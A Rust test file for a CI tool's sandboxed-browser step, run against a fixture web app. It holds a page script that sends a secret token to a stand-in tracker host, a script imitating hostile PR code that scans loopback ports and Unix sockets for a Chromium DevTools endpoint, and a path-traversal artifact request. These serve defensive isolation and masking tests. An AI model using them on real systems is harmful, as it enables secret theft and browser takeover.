//! The ui step with real Chromium, started in the validation's sandbox, against a fixture web
//! app the pipeline's `[service]` starts: each check's verdict and its evidence.

use reqwest::Method;
use serde_json::{json, Value};
use slipway_testkit::{fixture_repo, processes_with, Body, TestApp};

/// A small web app: a page with a login form, one with a JavaScript error, one whose API
/// call answers 500, one that loads a script from another host, and one that never settles.
const APP: &str = r#"import http.server, os, time
PAGES = {
    "/": "<title>Todos</title><h1>Todos</h1><a id='login' href='/login'>Log in</a>",
    "/login": "<title>Log in</title><form action='/welcome' method='get'><input id='user' name='user'><input type='submit' id='go' value='Go'></form>",
    "/jserror": "<title>Broken</title><p>Broken page</p><script>console.error('widget failed'); undefinedFunction();</script>",
    "/apifail": "<title>Api</title><p id='p'>loading</p><script>fetch('/api/data').then(r => document.getElementById('p').textContent = 'status ' + r.status)</script>",
    "/external": "<title>External</title><p>ads</p><script src='http://tracker.example.com/t.js'></script>",
    "/slow": "<title>Slow</title><p>slow</p><img src='/never'>",
}
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = self.path.split("?")[0]
        if path == "/secret":
            token = os.environ.get("PAGE_TOKEN", "")
            body = ("<title>token %s</title><p id='s'>%s</p><p>token shown</p><script>"
                    "const t = document.getElementById('s').textContent; console.error('leaked ' + t);"
                    "fetch('http://tracker.example.com/t?k=' + encodeURIComponent(t));</script>") % (token, token)
            data = body.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
            return
        if path == "/never":
            time.sleep(600)
        if path == "/welcome":
            user = self.path.split("user=")[-1]
            body, status = "<title>Welcome</title><h1>Welcome, %s</h1>" % user, 200
        elif path == "/api/data":
            body, status = "{}", 500
        elif path in PAGES:
            body, status = PAGES[path], 200
        else:
            body, status = "not found", 404
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", "text/html" if status != 500 else "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), H).serve_forever()
"#;

const PIPELINE: &str = r##"[service]
start = "python3 app.py"
[ui]
viewports = ["1280x800", "390x844"]
timeout_secs = 60
[[ui.checks]]
name = "log in"
path = "/"
steps = [
  { click = "#login" },
  { wait_for = "#user" },
  { fill = "#user", text = "ada" },
  { click = "#go" },
  { wait_for = "text=Welcome" },
]
expect_text = "Welcome, ada"
expect_title = "Welcome"
expect_url = "/welcome?user=ada"
expect_status = 200
[[ui.checks]]
name = "js error"
path = "/jserror"
expect_text = "Broken page"
[[ui.checks]]
name = "api fails"
path = "/apifail"
steps = [{ wait_for = "text=status" }]
[[ui.checks]]
name = "external script"
path = "/external"
expect_text = "ads"
[[ui.checks]]
name = "missing text"
path = "/"
expect_selector = "#cart"
"##;

/// In the command line of the ui step's browser (or its sandbox): its profile's name.
const BROWSER: &str = "slipway-browser-profile";

/// A project on a repository holding the fixture app and `pipeline` as its .slipway.toml.
async fn web_project(app: &TestApp, pipeline: &str) -> i64 {
    let repo = app.data_dir.path().join("web");
    fixture_repo(&repo, &[("app.py", APP), (".slipway.toml", pipeline)]);
    app.api
        .create_project(&json!({"name": "web", "repo": repo.display().to_string()}))
        .await
        .body["id"]
        .as_i64()
        .unwrap()
}

async fn evidence(app: &TestApp, id: i64) -> Vec<Value> {
    let list = app
        .api
        .send(
            Method::GET,
            &format!("/api/v1/validations/{id}/artifacts"),
            Body::None,
        )
        .await;
    assert_eq!(list.status, 200, "{}", list.text);
    let mut reports = Vec::new();
    for item in list.body.as_array().unwrap() {
        let name = item["name"].as_str().unwrap();
        if name.ends_with(".json") {
            let file = app
                .api
                .send(Method::GET, item["url"].as_str().unwrap(), Body::None)
                .await;
            assert_eq!(file.headers["content-type"], "application/json");
            reports.push(file.body);
        }
    }
    reports
}

fn report<'a>(reports: &'a [Value], check: &str, viewport: &str) -> &'a Value {
    reports
        .iter()
        .find(|r| r["check"] == check && r["viewport"] == viewport)
        .unwrap_or_else(|| panic!("no report of {check} at {viewport}: {reports:#?}"))
}

#[tokio::test]
async fn browser_checks_give_their_verdicts_with_the_evidence() {
    let app = TestApp::spawn().await;
    let project = web_project(&app, PIPELINE).await;
    let started = app
        .api
        .start_validation(project, &json!({"branch": "main"}))
        .await;
    let id = started.body["id"].as_i64().unwrap();
    let done = app.api.finished_validation(id).await;
    assert_eq!(done["status"], "failed", "{done}");
    let ui = &done["steps"][5];
    assert_eq!(ui["name"], "ui");
    assert_eq!(ui["status"], "failed");
    assert!(
        ui["detail"]
            .as_str()
            .unwrap()
            .contains("6 of 10 browser checks failed"),
        "{ui}"
    );

    let reports = evidence(&app, id).await;
    assert_eq!(reports.len(), 10, "5 checks in 2 viewports");
    for viewport in ["1280x800", "390x844"] {
        let login = report(&reports, "log in", viewport);
        assert_eq!(login["passed"], true, "{login:#}");
        assert_eq!(login["timeline"].as_array().unwrap().len(), 6);
        assert!(login["screenshot"].as_str().unwrap().ends_with(".png"));
    }
    let js = report(&reports, "js error", "1280x800");
    assert_eq!(js["passed"], false);
    let failure = js["failure"].as_str().unwrap();
    assert!(failure.contains("console error"), "{failure}");
    let console = js["console"].as_array().unwrap();
    assert!(console
        .iter()
        .any(|m| m["text"].as_str().unwrap().contains("widget failed")));
    assert!(
        console
            .iter()
            .any(|m| m["text"].as_str().unwrap().contains("undefinedFunction")),
        "{console:#?}"
    );

    let api = report(&reports, "api fails", "1280x800");
    assert_eq!(api["passed"], false);
    assert!(
        api["failure"]
            .as_str()
            .unwrap()
            .contains("/api/data answered 500"),
        "{api:#}"
    );

    let external = report(&reports, "external script", "1280x800");
    assert_eq!(
        external["passed"], true,
        "a blocked script does not fail the check: {external:#}"
    );
    let blocked = &external["requests"][0];
    assert_eq!(blocked["url"], "http://tracker.example.com/t.js");
    assert!(blocked["error"].as_str().unwrap().starts_with("blocked"));

    let missing = report(&reports, "missing text", "390x844");
    assert_eq!(
        missing["failure"],
        "expected an element matching #cart; there is none"
    );

    // The log carries the evidence the agent would be given.
    let log = app.api.validation_logs(id, "step=ui").await.text;
    assert!(log.contains("console error: widget failed"), "{log}");
    assert!(
        log.contains("request GET http://tracker.example.com/t.js"),
        "{log}"
    );

    // Screenshots are real PNGs, behind the same authentication.
    let shot = login_shot(&reports);
    let png = app
        .api
        .send(
            Method::GET,
            &format!("/api/v1/validations/{id}/artifacts/{shot}"),
            Body::None,
        )
        .await;
    assert_eq!(png.headers["content-type"], "image/png");
    // The whole page at the check's width: the PNG's own header says so.
    let stored = app.data_dir.path().join(format!("artifacts/{id}/{shot}"));
    let bytes = std::fs::read(&stored).unwrap();
    assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n", "{}", stored.display());
    let dimension = |at: usize| u32::from_be_bytes(bytes[at..at + 4].try_into().unwrap());
    assert_eq!(dimension(16), 1280, "the viewport's width");
    assert!(dimension(20) >= 800, "at least the viewport's height");
    let anonymous = app.api_with(None);
    let refused = anonymous
        .send(
            Method::GET,
            &format!("/api/v1/validations/{id}/artifacts/{shot}"),
            Body::None,
        )
        .await;
    assert_eq!(refused.status, 401);
    let sneaky = app
        .api
        .send(
            Method::GET,
            &format!("/api/v1/validations/{id}/artifacts/..%2F..%2Fslipway.db"),
            Body::None,
        )
        .await;
    assert_eq!(sneaky.status, 404);
    assert_eq!(processes_with(BROWSER), 0, "no browser left");
}

fn login_shot(reports: &[Value]) -> String {
    report(reports, "log in", "1280x800")["screenshot"]
        .as_str()
        .unwrap()
        .to_owned()
}

#[tokio::test]
async fn without_chromium_a_configured_ui_step_is_an_error_never_a_pass() {
    let app = TestApp::spawn_with(|_| {}).await;
    let pipeline = "[service]\nstart = \"python3 app.py\"\n[test]\ncommands = [\"true\"]\n[[ui.checks]]\nname = \"home\"\npath = \"/\"\n";
    let project = web_project(&app, pipeline).await;
    // SAFETY (test): the variable is read by this process's engine only when the step runs.
    unsafe { std::env::set_var("SLIPWAY_CHROMIUM", "/nonexistent/chromium") };
    let done = app.api.validated(project, &json!({"branch": "main"})).await;
    unsafe { std::env::remove_var("SLIPWAY_CHROMIUM") };
    assert_eq!(done["status"], "error", "{done}");
    let ui = &done["steps"][5];
    assert_eq!(ui["status"], "error");
    assert!(
        ui["detail"]
            .as_str()
            .unwrap()
            .contains("apt-get install chromium"),
        "{ui}"
    );
}

#[tokio::test]
async fn cancelling_mid_check_leaves_no_browser_behind() {
    let app = TestApp::spawn().await;
    let pipeline = "[service]\nstart = \"python3 app.py\"\n[ui]\ntimeout_secs = 120\n[[ui.checks]]\nname = \"slow\"\npath = \"/slow\"\n";
    let project = web_project(&app, pipeline).await;
    let started = app
        .api
        .start_validation(project, &json!({"branch": "main"}))
        .await;
    let id = started.body["id"].as_i64().unwrap();
    for _ in 0..400 {
        let record = app.api.validation(id).await.body;
        if record["steps"][5]["status"] == "running" && processes_with(BROWSER) > 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(processes_with(BROWSER) > 0, "the browser runs");
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    app.api.cancel_validation(id).await;
    let done = app.api.finished_validation(id).await;
    assert_eq!(done["status"], "cancelled", "{done}");
    assert_eq!(processes_with(BROWSER), 0, "no browser left");
}

#[tokio::test]
async fn artifacts_older_than_the_retention_are_pruned() {
    let app = TestApp::spawn_with(|config| {
        config.artifact_retention = std::time::Duration::from_secs(3_600);
    })
    .await;
    let root = app.data_dir.path().join("artifacts");
    let (old, new) = (root.join("7"), root.join("8"));
    for dir in [&old, &new] {
        std::fs::create_dir_all(dir).unwrap();
        std::fs::write(dir.join("home-1280x800.png"), b"png").unwrap();
    }
    let two_hours_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(7_200);
    std::fs::File::open(&old)
        .unwrap()
        .set_modified(two_hours_ago)
        .unwrap();
    app.engine.prune_artifacts().await;
    assert!(!old.exists(), "older than the retention: removed");
    assert!(new.exists(), "recent: kept");
}

#[tokio::test]
async fn a_page_that_never_settles_fails_at_the_check_timeout() {
    let app = TestApp::spawn().await;
    let pipeline = "[service]\nstart = \"python3 app.py\"\n[ui]\ntimeout_secs = 3\n[[ui.checks]]\nname = \"never settles\"\npath = \"/slow\"\n";
    let project = web_project(&app, pipeline).await;
    let started = app
        .api
        .start_validation(project, &json!({"branch": "main"}))
        .await;
    let id = started.body["id"].as_i64().unwrap();
    let done = app.api.finished_validation(id).await;
    assert_eq!(done["status"], "failed", "{done}");
    let reports = evidence(&app, id).await;
    let slow = report(&reports, "never settles", "1280x800");
    assert!(
        slow["failure"].as_str().unwrap().contains("within 3 s"),
        "{slow:#}"
    );
    assert!(
        slow["screenshot"].as_str().is_some(),
        "a screenshot at the failure"
    );
}

/// What PR code would try to take over the browser that judges it: every port of the cell's
/// loopback (IPv4 and IPv6) and every abstract socket, each asked for DevTools' version. As a
/// control it first starts a Chromium of its own with a DevTools port, which it must find;
/// it exits 0 when that is all it finds, 3 when it finds another, 4 when not even its own.
const SCAN: &str = r#"import os, socket, subprocess, sys, time
def devtools(sock):
    try:
        sock.settimeout(1.0)
        sock.sendall(b"GET /json/version HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        data = b""
        while len(data) < 65536:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
            if b"webSocketDebuggerUrl" in data:
                return True
    except OSError:
        pass
    finally:
        sock.close()
    return False
def scan():
    found = []
    for family, host in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")]:
        for port in range(1, 65536):
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(0.5)
            try:
                s.connect((host, port))
            except OSError:
                s.close()
                continue
            if devtools(s):
                found.append("%s:%d" % (host, port))
    for line in open("/proc/net/unix").readlines()[1:]:
        fields = line.split()
        if len(fields) >= 8 and fields[7].startswith("@"):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect("\0" + fields[7][1:])
            except OSError:
                s.close()
                continue
            if devtools(s):
                found.append(fields[7])
    return found
own = 47123
subprocess.Popen([sys.argv[1], "--headless=new", "--no-sandbox", "--disable-gpu",
    "--user-data-dir=/tmp/pr-chrome", "--remote-debugging-port=%d" % own, "about:blank"],
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for _ in range(400):
    try:
        if devtools(socket.create_connection(("127.0.0.1", own), 1)):
            break
    except OSError:
        time.sleep(0.05)
found = scan()
print("DevTools endpoints found:", found)
expected = ["127.0.0.1:%d" % own]
sys.exit(0 if found == expected else (4 if expected[0] not in found else 3))
"#;

/// The browser starts with the deploy step (it boots while the service starts and the tests
/// run), out of PR code's reach: a test step that scans the cell for a DevTools endpoint
/// while the browser runs finds none but its own. When a step before the ui step fails, the
/// browser is stopped with the rest.
#[tokio::test]
async fn pr_code_finds_no_devtools_of_the_browser_that_checks_it() {
    let app = TestApp::spawn().await;
    let chromium = slipway_browser::chromium().unwrap();
    let scan = format!("python3 scan.py {}", chromium.display());
    for (test, expected) in [(scan.as_str(), "passed"), ("exit 1", "failed")] {
        let pipeline = format!(
            "[service]\nstart = \"python3 app.py\"\n[test]\ncommands = [{test:?}]\n\
             [[ui.checks]]\nname = \"home\"\npath = \"/\"\nexpect_text = \"Todos\"\n"
        );
        let repo = app.data_dir.path().join(format!("web-{expected}"));
        fixture_repo(
            &repo,
            &[
                ("app.py", APP),
                ("scan.py", SCAN),
                (".slipway.toml", &pipeline),
            ],
        );
        let project = app
            .api
            .create_project(&json!({"name": expected, "repo": repo.display().to_string()}))
            .await
            .body["id"]
            .as_i64()
            .unwrap();
        let id = app
            .api
            .start_validation(project, &json!({"branch": "main"}))
            .await
            .body["id"]
            .as_i64()
            .unwrap();
        // The browser runs while the test step does (so the scan had something to find).
        let mut browser_during_tests = false;
        let done = loop {
            let record = app.api.validation(id).await.body;
            if record["steps"][4]["status"] == "running" && processes_with(BROWSER) > 0 {
                browser_during_tests = true;
            }
            if !matches!(record["status"].as_str(), Some("queued" | "running")) {
                break record;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        };
        assert_eq!(done["status"], expected, "{done}");
        let test_step = &done["steps"][4];
        assert_eq!(test_step["name"], "test");
        if expected == "passed" {
            let log = app.api.validation_logs(id, "step=test").await.text;
            assert_eq!(test_step["status"], "passed", "{done}\n{log}");
            // The scan ran, and found the control only.
            assert!(
                log.contains("DevTools endpoints found: ['127.0.0.1:47123']"),
                "{log}"
            );
            assert!(browser_during_tests, "the browser ran during the scan");
            assert_eq!(done["steps"][5]["status"], "passed", "{done}");
        }
        assert_eq!(processes_with(BROWSER), 0, "no browser left");
        app.api.delete_project(project).await;
    }
}

/// What the browser saw is masked like the log: a page that shows a project's secret (with a
/// quote and a backslash, which JSON escapes) in its title, text, console and a request.
#[tokio::test]
async fn browser_evidence_is_masked_like_the_log() {
    let app = TestApp::spawn().await;
    let secret = r#"pa"ss\9f2b-c41e-77d0"#;
    let pipeline = "[service]\nstart = \"python3 app.py\"\n[[ui.checks]]\nname = \"secret\"\n\
                    path = \"/secret\"\nexpect_text = \"token shown\"\nmax_console_errors = 5\n";
    let project = web_project(&app, pipeline).await;
    let put = app.api.put_secret(project, "PAGE_TOKEN", secret).await;
    assert!(put.status.is_success(), "{}", put.text);
    let done = app.api.validated(project, &json!({"branch": "main"})).await;
    assert_eq!(done["status"], "passed", "{done}");
    let reports = evidence(&app, id_of(&done)).await;
    let found = report(&reports, "secret", "1280x800");
    // The page did show it: masked where it was.
    assert_eq!(found["title"], "token ***", "{found:#}");
    assert!(found["text"].as_str().unwrap().contains("***"), "{found:#}");
    let mut strings = Vec::new();
    for report in &reports {
        every_string(report, &mut strings);
    }
    let encoded = secret.replace('"', "%22").replace('\\', "%5C");
    assert!(
        strings.iter().any(|s| s.contains("leaked ***")),
        "{strings:#?}"
    );
    assert!(
        strings.iter().any(|s| s.ends_with("t?k=***")),
        "{strings:#?}"
    );
    for string in &strings {
        assert!(!string.contains("9f2b-c41e"), "{string}");
        assert!(!string.contains(&encoded), "{string}");
    }
    let log = app.api.validation_logs(id_of(&done), "step=ui").await.text;
    assert!(!log.contains("9f2b-c41e"), "{log}");
}

fn id_of(validation: &Value) -> i64 {
    validation["id"].as_i64().unwrap()
}

fn every_string(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(text) => out.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|v| every_string(v, out)),
        Value::Object(map) => map.iter().for_each(|(k, v)| {
            out.push(k.clone());
            every_string(v, out)
        }),
        _ => {}
    }
}
